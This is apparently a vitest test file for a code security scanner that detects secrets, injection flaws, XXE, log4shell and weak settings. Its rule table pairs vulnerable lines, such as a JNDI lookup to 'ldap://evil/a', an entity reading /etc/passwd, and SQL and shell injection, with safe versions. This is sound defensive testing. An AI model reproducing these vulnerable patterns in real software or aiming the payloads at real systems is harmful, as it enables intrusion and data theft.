import { symlinkSync, truncateSync } from 'node:fs';
import path from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { callContext } from '#servers/kit/testing.ts';
import { fileSecurityScan } from './file-security-scan.ts';
import type { Finding } from './finding.ts';
import { securityScanner } from './security-scanner.ts';
import { createRandom, FORMATS } from '#servers/source-scan/testing/random-secrets.ts';
import { openScanner } from './testing/workspace.ts';
import type { Scanning } from './testing/workspace.ts';
import { findVulnerable } from './vulnerable-patterns.ts';

let server: Scanning;
afterEach(() => server.close());

const make = createRandom(3);
const token = FORMATS['GitHub token']?.(make) ?? '';
const findings = (data: Record<string, unknown>) => data['findings'] as Finding[];

test('credentials are found and masked, placeholders and marked lines are not', async () => {
  const random = make('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789', 60);
  server = await openScanner({
    'src/a.ts': `const t = '${token}';\n\nconst again = '${token}'; // gitleaks:allow\nconst password = 'p4ss!word77';\n`,
    'src/b.ts': `run("${random}");\n`,
    'node_modules/c.ts': `const t = '${token}';`,
    'd.log': token,
    'e.bin': Buffer.from(`\0${token}`),
  });
  const { data, text } = await server.call('credential_scan', { target_path: '.' });
  expect(findings(data).map(({ rule, path: file, line, shown }) => [rule, file, line, shown])).toEqual([
    ['github-token', 'src/a.ts', 1, 'ghp_********'],
    ['password', 'src/a.ts', 4, '********'],
    [expect.any(String), 'src/b.ts', 1, `${random.slice(0, 4)}********`],
  ]);
  expect(data).toMatchObject({
    total: 3,
    allowed: 1,
    truncated: false,
    coverage: { files: 2, left_out: 3, complete: true, not_read: [] },
  });
  for (const secret of [token, random, 'p4ss!word77'])
    expect(JSON.stringify(data) + text).not.toContain(secret);
  const plain = await server.call('credential_scan', { target_path: 'src/b.ts', entropy_analysis: false });
  expect(plain.data).toMatchObject({ total: 0, coverage: { files: 1 } });
});

test('patterns of your own, in RE2', async () => {
  server = await openScanner({ 'a.txt': 'first\nacme_0123456789\n' });
  const { data } = await server.call('credential_scan', {
    target_path: 'a.txt',
    custom_patterns: '["^acme_[0-9]{10}$"]',
  });
  expect(findings(data)).toMatchObject([
    { kind: 'custom', rule: '^acme_[0-9]{10}$', line: 2, shown: 'acme********' },
  ]);
});

test.each([
  ['{', 'custom_patterns'],
  ['{}', 'custom_patterns'],
  ['[1]', 'custom_patterns'],
  ['[""]', 'custom_patterns'],
  [JSON.stringify(Array(51).fill('a')), 'custom_patterns'],
  [JSON.stringify(['ok', '(']), 'custom_patterns.1'],
  [JSON.stringify(['(?<=a)b']), 'custom_patterns.0'],
])('custom_patterns %s is V', async (custom_patterns, field) => {
  server = await openScanner({ 'a.txt': '' });
  const { error } = await server.call('credential_scan', { target_path: '.', custom_patterns });
  expect(error).toMatchObject({ code: 'V', field });
});

test('files that are written to make patterns slow are scanned all the same', async () => {
  const evil = [
    'a'.repeat(300_000),
    'secret'.repeat(50_000),
    `password${' '.repeat(200_000)}`,
    '"'.repeat(200_000),
    'eyJ'.repeat(80_000),
    `SELECT ${' FROM'.repeat(40_000)}`,
    'chmod '.repeat(40_000),
    '${jndi'.repeat(40_000),
    '<!ENTITY '.repeat(20_000),
  ];
  server = await openScanner({
    'a.ts': evil.join('\n'),
    'a.php': evil.join(' '),
    'a.xml': evil.join(''),
    '.env': evil.join('\n'),
  });
  const { data, error } = await server.call('file_security_scan', { target_path: '.' });
  expect(error).toBeUndefined();
  expect(data['coverage']).toMatchObject({ files: 4, complete: true });
  const slow = await server.call('credential_scan', { target_path: 'a.ts', custom_patterns: '["(a+)+$x"]' });
  expect(slow.error).toBeUndefined();
});

// Each rule by the line that it is for, and a line beside it that is fine.
test.each([
  ['log4shell', 'a.log4j', 'x=${jndi:ldap://evil/a}', 'x=${jndi.name}'],
  [
    'log4j-version',
    'pom.xml',
    '<artifactId>log4j-core</artifactId>\n <version>2.14.1</version>',
    '<artifactId>log4j-core</artifactId>\n <version>2.17.2</version>',
  ],
  [
    'sql-injection-concat',
    'a.js',
    `db.query("SELECT a FROM b WHERE c = '" + id)`,
    `db.query("SELECT a FROM b WHERE c = ?", [id])`,
  ],
  [
    'sql-injection-template',
    'a.js',
    'db.query(`SELECT a FROM b WHERE c = ${id}`)',
    'db.query(`SELECT a FROM b WHERE c = ?`, [id])',
  ],
  [
    'sql-injection-format',
    'a.py',
    'cur.execute(f"SELECT a FROM b WHERE c = {x}")',
    'cur.execute("SELECT a FROM b WHERE c = %s", (x,))',
  ],
  [
    'sql-injection-php',
    'a.php',
    '$q = "SELECT a FROM b WHERE c = $_GET[id]";',
    '$q = "SELECT a FROM b WHERE c = ?";',
  ],
  ['command-injection-shell', 'a.ts', 'exec(`ls ${folder}`)', 'execFile("ls", [folder])'],
  ['command-injection-python', 'a.py', 'os.system("ls " + folder)', 'subprocess.run(["ls", folder])'],
  ['command-injection-php', 'a.php', 'system("ls " . $_GET["d"]);', 'system("ls");'],
  ['command-injection-java', 'A.java', 'rt.exec("ls " + folder);', 'rt.exec(args);'],
  ['code-injection', 'a.js', 'eval(req.query.code)', 'evaluate(req.query.code)'],
  ['path-traversal', 'a.js', 'fs.readFile(req.query.name, done)', 'fs.readFile(known, done)'],
  ['xxe-java', 'A.java', 'DocumentBuilderFactory.newInstance()', 'builder.parse(x)'],
  ['xxe-python', 'a.py', 'XMLParser(resolve_entities=True)', 'XMLParser(resolve_entities=False)'],
  ['xxe-php', 'a.php', '$d->loadXML($x, LIBXML_NOENT);', '$d->loadXML($x);'],
  ['xxe-entity', 'a.xml', '<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY x "y">'],
  ['unsafe-deserialisation', 'a.py', 'yaml.load(text)', 'yaml.load(text, Loader=yaml.SafeLoader)'],
  ['tls-not-verified', 'a.ts', '{ rejectUnauthorized: false }', '{ rejectUnauthorized: true }'],
  ['weak-hash', 'a.py', 'hashlib.md5(data)', 'hashlib.md5(data, usedforsecurity=False)'],
  ['weak-cipher', 'a.js', 'createCipheriv("des-ede3", k, v)', 'createCipheriv("aes-256-gcm", k, v)'],
  ['cross-site-scripting', 'a.js', 'el.innerHTML = "<b>" + name', 'el.innerHTML = ""'],
  ['debug-mode', 'settings.py', 'DEBUG = True', 'DEBUG = False'],
  [
    'open-cors',
    'a.js',
    'res.setHeader("Access-Control-Allow-Origin", "*")',
    'res.setHeader("Access-Control-Allow-Origin", origin)',
  ],
  ['server-side-request', 'a.py', 'requests.get(request.args["url"])', 'requests.get(URL)'],
  ['jwt-not-verified', 'a.py', 'jwt.decode(t, options={"verify_signature": False})', 'jwt.decode(t, key)'],
  ['open-permissions', 'a.sh', 'chmod 777 /srv', 'chmod 755 /srv'],
])('%s', async (rule, name, bad, good) => {
  server = await openScanner({});
  const rules = (text: string) => findVulnerable({ name, text, mode: 0 }).map((found) => found.rule);
  expect(rules(`first\n${bad}\n`)).toContain(rule);
  expect(rules(`first\n${good}\n`)).not.toContain(rule);
});

test('scan types, compliance, and risk by the number of findings', async () => {
  server = await openScanner({
    'page.html': '<html><head></head></html>',
    'open.html': `<html><meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"></html>`,
    'good.html': `<html><meta http-equiv="Content-Security-Policy" content="default-src 'self'"></html>`,
    'sub/a.js': 'eval(req.body)\n// eval(req.body)\n',
    'sub/t.js': `x = '${token}'`,
  });
  server.write('w.txt', '', 0o666);
  const rules = async (args: Record<string, string | boolean>) =>
    findings((await server.call('file_security_scan', { target_path: '.', ...args })).data).map(
      ({ rule, path: file }) => `${rule} ${file}`,
    );
  const compliance = ['csp-unsafe open.html', 'world-writable w.txt', 'csp-missing page.html'];
  expect(await rules({ scan_type: 'compliance' })).toEqual(compliance);
  expect(await rules({ scan_type: 'vulnerabilities' })).toEqual(['code-injection sub/a.js']);
  expect(await rules({ scan_type: 'secrets' })).toEqual(['github-token sub/t.js']);
  expect(await rules({})).toHaveLength(5);
  expect(await rules({ recursive: false })).toEqual(compliance);
  const risks = [];
  for (const count of [0, 1, 11, 21]) {
    server.write('many/a.js', 'eval(req.body)\n'.repeat(count));
    risks.push((await server.call('file_security_scan', { target_path: 'many' })).data['risk']);
  }
  expect(risks).toEqual(['NONE', 'MEDIUM', 'HIGH', 'CRITICAL']);
});

test.each(['credential_scan', 'file_security_scan'])('%s: only inside, with limits', async (tool) => {
  server = await openScanner({ 'a.txt': 'x' });
  symlinkSync('/etc', path.join(server.folder, 'out'));
  for (const [given, code] of [
    ['..', 'P'],
    ['/etc', 'P'],
    ['out', 'P'],
    ['none', 'N'],
    ['', 'V'],
  ] as const) {
    expect((await server.call(tool, { target_path: given })).error, given).toMatchObject({
      code,
      field: 'target_path',
    });
  }
  expect((await server.call(tool, {})).error).toMatchObject({ code: 'V', field: 'target_path' });
  expect((await server.call(tool, { target_path: '.', scan: 1 })).error).toMatchObject({
    code: 'V',
    field: 'scan',
  });
  truncateSync(server.write('huge.txt', ''), 100 * 1024 * 1024 + 1);
  expect((await server.call(tool, { target_path: 'huge.txt' })).error).toMatchObject({
    code: 'V',
    field: 'target_path',
  });
  const { data } = await server.call(tool, { target_path: '.' });
  expect(data['coverage']).toMatchObject({
    files: 1,
    left_out: 1,
    not_read: [{ path: 'huge.txt', reason: expect.stringContaining('bytes') }],
  });
});

test('cancelled, it stops', async () => {
  server = await openScanner(Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`${at}.txt`, ''])));
  const controller = new AbortController();
  const context = callContext(securityScanner, { folders: [server.folder], signal: controller.signal });
  const progress = (): Promise<void> => {
    controller.abort(new Error('cancelled'));
    return Promise.resolve();
  };
  await expect(fileSecurityScan.call({ target_path: '.' }, { ...context, progress })).rejects.toThrow(
    'cancelled',
  );
});
